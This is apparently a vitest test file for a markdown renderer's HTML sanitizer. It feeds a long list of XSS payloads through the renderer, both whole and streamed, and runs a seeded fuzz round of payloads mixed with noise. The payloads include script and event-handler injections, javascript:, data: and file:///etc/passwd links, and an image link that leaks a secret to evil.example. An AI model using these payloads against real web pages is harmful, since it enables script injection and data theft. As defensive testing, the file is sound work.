import { expect, test } from 'vitest';
import { createMarkdownSink, renderMarkdown } from '../../lib/render/markdown-sink.ts';
import { createNoise, createRandom, documents, splitRandomly } from './render-corpus.ts';
import { createOptions } from './render-options.ts';

const options = createOptions();

const ELEMENTS = new Set(
  'p h1 h2 h3 h4 h5 h6 ul ol li blockquote pre code strong em del br hr a span input table thead tbody tr th td div figure figcaption button'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(
  'class dir href target rel referrerpolicy type disabled checked aria-label start role tabindex scope translate'.split(
    ' ',
  ),
);

function expectHarmless(root: HTMLElement, hint: string) {
  for (const element of root.querySelectorAll('*')) {
    expect(ELEMENTS, hint).toContain(element.localName);
    for (const { name } of element.attributes) expect(ATTRIBUTES, `${hint}: ${name}`).toContain(name);
    const href = element.getAttribute('href');
    if (href !== null) expect(href, hint).toMatch(/^(?:https?:\/\/|mailto:)/);
  }
}

const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=https://evil.example></ScRiPt>',
  'text <script>alert(1)</script> text',
  '<img src=x onerror=alert(1)>',
  '<img srcset="https://evil.example 1x">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><image href="https://evil.example/x"/></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)"></object><embed src="x">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<style>@import "https://evil.example";</style>',
  '<link rel=stylesheet href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action=https://evil.example><input name=q><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<video poster=https://evil.example><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<p id=body name=cookie>clobber</p>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x onclick=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:x)',
  '[x](blob:https://e.example/1)',
  '[x](file:///etc/passwd)',
  '[x](chrome-extension://abc/options.html)',
  '[x](//evil.example)',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '[r]: javascript:alert(1)\n\n[x][r]',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '[x](https://e.example "onmouseover=alert(1)")',
  '[x](https://e.example" onmouseover="alert(1))',
  '[<img src=x onerror=alert(1)>](https://e.example)',
  '![x](https://evil.example/?q=secret)',
  '![x](javascript:alert(1))',
  '![<img src=x onerror=alert(1)>](x)',
  '![x][r]\n\n[r]: https://evil.example/x.png',
  '[![x](https://evil.example/a)](javascript:alert(1))',
  '# <img src=x onerror=alert(1)>',
  '- <img src=x onerror=alert(1)>\n  - <script>alert(1)</script>',
  '> <iframe src=x>\n> > [x](javascript:alert(1))',
  '| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|---|---|\n| <svg onload=alert(1)> | `<b>` |',
  '```<img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
  '```"onclick="alert(1)\nx\n```',
  '`<img src=x onerror=alert(1)>`',
  '    <script>alert(1)</script>',
  '**<b onclick=alert(1)>x</b>**',
  '1000000000000. <script>alert(1)</script>',
  '- [ ] <img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<br onload=alert(1)> <br/> <BR>',
  '__proto__ [constructor] [__proto__]: https://e.example\n\n[__proto__] [toString][hasOwnProperty]',
  '\u202etxt.exe [\u202emoc](https://e.example)',
];

test.each(payloads)('%j stays text, at every step', (payload) => {
  const whole = document.createElement('div');
  renderMarkdown(whole, payload, options);
  expectHarmless(whole, payload);
  const streamed = document.createElement('div');
  const sink = createMarkdownSink(streamed, options);
  for (const char of payload) {
    sink.append(char);
    expectHarmless(streamed, payload);
  }
  sink.end();
  expect(streamed.isEqualNode(whole)).toBe(true);
});

test('noise stays harmless at every step', () => {
  const seed = Number(process.env['SEED'] ?? Date.now() % 1_000_000);
  const random = createRandom(seed);
  for (let round = 0; round < 60; round++) {
    const picked = Array.from({ length: 3 }, () => payloads[Math.floor(random() * payloads.length)] ?? '');
    const text = picked.join(createNoise(random, 8));
    const root = document.createElement('div');
    const sink = createMarkdownSink(root, options);
    for (const part of splitRandomly(text, random, 40)) {
      sink.append(part);
      expectHarmless(root, `seed ${seed} round ${round}: ${JSON.stringify(text)}`);
    }
    sink.end();
    expectHarmless(root, `seed ${seed} round ${round}: ${JSON.stringify(text)}`);
  }
});

test('the checks would notice: the ordinary corpus uses most of what is allowed', () => {
  const root = document.createElement('div');
  for (const text of documents) {
    renderMarkdown(root, text, options);
    expectHarmless(root, text);
  }
  const used = new Set([...root.querySelectorAll('*')].map((element) => element.localName));
  expect([...ELEMENTS].filter((name) => !used.has(name))).toEqual([]);
});
